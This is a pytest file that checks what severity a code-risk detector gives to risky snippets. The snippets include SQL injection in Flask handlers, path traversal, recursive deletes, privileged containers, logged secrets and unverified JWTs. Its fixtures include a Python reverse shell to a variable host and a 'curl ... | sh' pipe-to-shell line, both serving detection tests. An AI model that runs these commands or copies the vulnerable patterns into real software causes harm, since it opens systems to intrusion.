"""What lowers a level or keeps a rule silent, each beside its twin that it must not touch."""

from __future__ import annotations

import pytest
from judged import RULES, level

from guardrail.engine.examples import judge_example
from guardrail.example import Example, python, shell, sql
from guardrail.model import Level

IN_TEST = "tests/test_shop.py"


def flask(body: str) -> str:
    """A function that answers a request."""
    return (
        "import os, sqlite3\nfrom flask import Flask, request\napp = Flask('shop')\n\n"
        f"@app.post('/orders')\ndef answer(connection: sqlite3.Connection):\n    {body}\n"
    )


SHOWS_NEW = "import secrets\n\npassword = secrets.token_urlsafe(16)\nprint(password)\n"
SHOWS = "import os\n\npassword = os.environ['DB_PASSWORD']\n{0}print(password)\n"
RETYPED = "import psycopg\npsycopg.connect(D).execute(f'ALTER TABLE users ALTER a TYPE {0}')\n"
TOKEN = "import jwt\n\ndef read(token):\n    {0}\n    return jwt.decode(token, options={1})\n"
UNCHECKED = "{'verify_signature': False}"
REMOVES = flask("os.remove(os.path.join('/srv/orders', request.args['name']))")
ASKS = flask("connection.execute(f\"SELECT id FROM t WHERE name = '{request.args['name']}'\")")
ASKS_IF = flask(
    "args = request.args\n    query = 'SELECT id FROM t'\n"
    "    if args.get('name'):\n        query += f\" WHERE name = '{args['name']}'\"\n"
    "    connection.execute(query)"
)
FETCHED = (
    "import subprocess\nimport urllib.request\n\n"
    "urllib.request.urlretrieve('https://example.com/install.sh', path)\n"
    "subprocess.run(['bash', path], check=True)\n"
)
MODEL = (
    "import os, sqlite3, subprocess\nfrom mcp.server.fastmcp import FastMCP\n"
    "mcp = FastMCP('files')\n\n@mcp.tool()\ndef tool(text: str) -> str:\n    {0}\n"
)
TOLD = (
    # a type of which a part is only known at run time; who says which, says it
    ("rewriting-column", python(RETYPED.format("varchar({{most}})")), Level.INFO),
    ("rewriting-column", python(RETYPED.format("bigint")), Level.WARNING),
    # one folder of many, one of few, and a folder of a database
    ("recursive-delete", python("import shutil\nshutil.rmtree(f'/srv/exports/{job}')"), Level.INFO),
    ("recursive-delete", python("import shutil\nshutil.rmtree(f'/srv/{job}')"), Level.WARNING),
    ("recursive-delete", python("import shutil\nshutil.rmtree(f'/home/{who}/a')"), Level.WARNING),
    ("recursive-delete", shell("rm -rf /srv/exports/$JOB"), Level.WARNING),
    # a name of somebody's test, a name of a test's own
    ("lost-file", python("import os\nos.remove('.env')"), Level.WARNING),
    ("lost-file", python("import os\nos.remove('.env')", path=IN_TEST), Level.OFF),
    ("unchecked-path", python(REMOVES), Level.WARNING),
    ("unchecked-path", python(REMOVES, path=IN_TEST), Level.OFF),
    ("injected-query", python(ASKS), Level.WARNING),
    ("injected-query", python(ASKS, path=IN_TEST), Level.OFF),
    # who writes the value meets the condition that asks for it
    ("injected-query", python(ASKS_IF), Level.WARNING),
    ("machine-handed-over", shell("docker run --privileged acme/build"), Level.WARNING),
    (
        "machine-handed-over",
        python(
            "import docker\ndocker.from_env().containers.run('a', privileged=True)", path=IN_TEST
        ),
        Level.OFF,
    ),
    # a machine that comes up again
    ("stopped-machine", shell("shutdown -r now"), Level.INFO),
    ("stopped-machine", shell("shutdown -h now"), Level.WARNING),
    # a secret that was just made, that is in the way of a flag, and one that is there
    ("logged-secret", python(SHOWS_NEW), Level.INFO),
    ("logged-secret", python(SHOWS.format("")), Level.WARNING),
    (
        "logged-secret",
        python(SHOWS.format("if input('show it? ') == 'yes':\n    ")),
        Level.INFO,
    ),
    # who looks for a key's name decodes the token once more
    ("unverified-token", python(TOKEN.format("pass", UNCHECKED)), Level.WARNING),
    (
        "unverified-token",
        python(TOKEN.format("jwt.decode(token, KEY, algorithms=['RS256'])", UNCHECKED)),
        Level.INFO,
    ),
    # a file that stays can be looked at afterwards
    ("piped-remote-code", python(FETCHED), Level.WARNING),
    ("piped-remote-code", shell("curl https://example.com/install.sh | sh"), Level.ERROR),
    # a command line is anything, SQL is bounded by the login
    (
        "code-by-model",
        python(MODEL.format("return subprocess.getoutput(text)")),
        Level.ERROR,
    ),
    (
        "code-by-model",
        python(MODEL.format("return str(sqlite3.connect('a.db').execute(text).fetchall())")),
        Level.WARNING,
    ),
    ("code-by-model", python(MODEL.format("os.remove(text)")), Level.WARNING),
    (
        "code-by-model",
        python(MODEL.format("if text not in allowed: return\n    os.remove(text)")),
        Level.OFF,
    ),
    (
        "code-by-model",
        python(MODEL.format("if ROOT not in Path(text).parents: return\n    os.remove(text)")),
        Level.OFF,
    ),
)


@pytest.mark.parametrize(
    ("rule", "example", "expected"), TOLD, ids=[f"{n} {one[0]}" for n, one in enumerate(TOLD)]
)
def test_as_loud_as_it_is_sure(rule: str, example: Example, expected: Level) -> None:
    assert level(rule, example) is expected


@pytest.mark.parametrize(
    ("operators", "expected"), [("", Level.INFO), (" varchar_pattern_ops", Level.WARNING)]
)
def test_an_index_with_operators_of_its_own_answers_other_questions(
    operators: str, expected: Level
) -> None:
    history = (
        "CREATE TABLE users (email varchar(90) CONSTRAINT one UNIQUE);"
        f"CREATE INDEX i ON users (email{operators})"
    )
    change = sql("ALTER TABLE users DROP CONSTRAINT one", history=history)
    assert level("dropped-constraint", change) is expected


def test_a_query_is_told_once_for_all_ways_in_which_it_comes_out() -> None:
    code = flask(
        "for column in ('a', 'b'):\n        connection.execute("
        "f\"SELECT {column} FROM t WHERE name = '{request.args['name']}'\")"
    )
    assert len(list(judge_example(RULES["injected-query"], python(code)))) == 1


def test_a_shell_at_the_other_end_of_a_connection_is_a_warning() -> None:
    code = (
        "import os, pty, socket\nsock = socket.create_connection((HOST, 4443))\n"
        'for one in (0, 1, 2):\n    os.dup2(sock.fileno(), one)\npty.spawn("/bin/sh")\n'
    )
    assert level("injected-code", python(code)) is Level.WARNING


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("shop/connect.py", Level.ERROR),
        ("dev/connect.py", Level.WARNING),
        ("ci/connect.py", Level.WARNING),
    ],
)
def test_a_password_of_developers_machines_is_no_error(path: str, expected: Level) -> None:
    code = (
        "import psycopg\npsycopg.connect(host='db.shop.io', user='app', password='vQ6qKPN!Gz6anI7')"
    )
    assert level("written-password", python(code, path=path)) is expected


MOVED = """\
from django.db import migrations, models

def move(apps, schema_editor):
    Order = apps.get_model("shop", "Order")
    Sale = apps.get_model("shop", "Sale")
    for one in Order.objects.all():
        Sale.objects.create(total=one.total)

class Migration(migrations.Migration):
    dependencies = [("shop", "0001_initial")]
    operations = [
        {0}
        migrations.RemoveField("order", "total"),
        migrations.DeleteModel("Order"),
    ]
"""


@pytest.mark.parametrize(("step", "said"), [("migrations.RunPython(move),", True), ("", False)])
def test_a_column_goes_with_its_table_also_where_code_moved_some_of_it(
    step: str, said: bool
) -> None:
    code = python(MOVED.replace("{0}", step), path="shop/migrations/0002_move.py")
    found = [one.message for one in judge_example(RULES["dropped-column"], code)]
    tables = [one.message for one in judge_example(RULES["dropped-table"], code)]
    assert (found, ["copied to" in one for one in tables]) == ([], [said])


@pytest.mark.parametrize(
    ("made", "expected"),
    [
        ("CREATE TABLE IF NOT EXISTS import_tmp (id int PRIMARY KEY);", Level.INFO),
        ("", Level.WARNING),
    ],
)
def test_a_table_of_work_that_is_made_first_may_go(made: str, expected: Level) -> None:
    assert level("dropped-table", sql(f"{made} DROP TABLE import_tmp")) is expected


@pytest.mark.parametrize(
    ("after", "expected"),
    [
        ("coll.insert_many(rows)", Level.WARNING),
        ("other.insert_many(rows)", Level.ERROR),
        ("coll.insert_many(fake.rows())", Level.ERROR),
    ],
)
def test_documents_that_are_put_in_anew_by_the_name_they_were_taken_by(
    after: str, expected: Level
) -> None:
    code = (
        "from pymongo import MongoClient\ndb = MongoClient(URL).shop\n\n"
        f"def load(rows, other):\n    coll = db['tags']\n    coll.delete_many({{}})\n    {after}\n"
    )
    assert level("unscoped-delete", python(code)) is expected


@pytest.mark.parametrize(
    ("path", "condition", "expected"),
    [
        ("repos/acme/{one['name']}", "one['pushed_at'] < cutoff", Level.WARNING),
        ("repos/acme/{one['name']}", "'e2e' in one['labels']", Level.INFO),
        ("repos/acme/shop/actions/artifacts/{one['id']}", "one['created_at'] < cutoff", Level.INFO),
        ("repos/acme/{one['name']}", "one", Level.ERROR),
    ],
)
def test_a_repository_is_not_made_anew_because_it_is_old(
    path: str, condition: str, expected: Level
) -> None:
    code = (
        "import requests\n\ndef retire(found, cutoff):\n    for one in found:\n"
        f"        if {condition}:\n"
        f'            requests.delete(f"https://api.github.com/{path}", headers=HEADERS)\n'
    )
    assert level("provider-deletion", python(code)) is expected


@pytest.mark.parametrize(
    ("schema", "expected"),
    [
        ("archive", Level.INFO),
        ("to_be_dropped", Level.INFO),
        ("billing", Level.WARNING),
        ("archivists", Level.WARNING),
    ],
)
def test_a_table_that_is_put_aside_before_it_goes(schema: str, expected: Level) -> None:
    text = f"ALTER TABLE legacy_refunds SET SCHEMA {schema}"
    found = judge_example(RULES["renamed-object"], sql(text))
    assert [one.level for one in found] == [expected]
